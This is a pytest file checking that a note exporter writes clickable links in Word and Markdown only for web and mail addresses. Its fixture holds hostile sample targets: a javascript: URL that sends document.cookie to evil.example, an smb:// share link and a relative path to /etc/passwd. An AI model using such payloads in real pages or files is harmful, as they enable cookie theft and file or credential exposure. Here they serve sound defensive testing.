"""An exported note links only to the web, an e-mail address or a place in itself,
whatever a (possibly crafted) project holds: no file:, smb:, javascript: or relative
target ever becomes a link a reader can click in Word or in a Markdown viewer."""

from __future__ import annotations

import datetime as dt
import re
import zipfile
from pathlib import Path
from xml.etree import ElementTree as ET

import pytest

from briefer.core.citations import quotation_markdown
from briefer.core.model import Article, Note, Passage, Section
from briefer.exporters import export_note

PKG_REL = "{http://schemas.openxmlformats.org/package/2006/relationships}"
EVIL_URL = 'javascript:fetch("https://evil.example/?"+document.cookie)'
BODY = "\n\n".join(
    [
        quotation_markdown("Fees rise.", 1),
        "See [the share](smb://evil.example/share), [the file](../../etc/passwd)"
        " and [the report](https://ok.example/r).",
        "Write to [the desk](mailto:desk@example.org).",
    ]
)


@pytest.fixture
def note_parts() -> tuple[Note, dict[int, Passage], dict[int, Article]]:
    article = Article(
        title="Velden fees",
        text="Fees rise. And more.",
        publisher="Coastwire",
        url=EVIL_URL,  # what a crafted project may hold; no import stores it
        imported_at=dt.datetime(2025, 12, 6, tzinfo=dt.UTC),
        id=1,
    )
    passage = Passage(article_id=1, start=0, end=10, text="Fees rise.", id=1)
    note = Note(title="Fees", sections=(Section("Summary", BODY, level=1),))
    return note, {1: passage}, {1: article}


def test_docx_makes_hyperlinks_of_web_and_mail_addresses_only(
    tmp_path: Path, note_parts: tuple[Note, dict[int, Passage], dict[int, Article]]
) -> None:
    target = tmp_path / "note.docx"
    export_note(*note_parts, target, "docx")
    with zipfile.ZipFile(target) as archive:
        rels = [name for name in archive.namelist() if name.endswith(".rels")]
        external = [
            r.get("Target", "")
            for name in rels
            for r in ET.fromstring(archive.read(name)).iter(f"{PKG_REL}Relationship")
            if r.get("TargetMode") == "External"
        ]
        body = archive.read("word/document.xml").decode("utf-8")
    assert sorted(set(external)) == ["https://ok.example/r", "mailto:desk@example.org"]
    assert "the share" in body and "the file" in body  # kept as text, not as links


def test_markdown_writes_links_to_web_and_mail_addresses_only(
    tmp_path: Path, note_parts: tuple[Note, dict[int, Passage], dict[int, Article]]
) -> None:
    target = tmp_path / "note.md"
    export_note(*note_parts, target, "markdown")
    text = target.read_text(encoding="utf-8")
    targets = re.findall(r"\]\(<?([^)>]*)>?\)", text)
    assert sorted(targets) == ["https://ok.example/r", "mailto:desk@example.org"]
    assert "the share" in text and "the file" in text
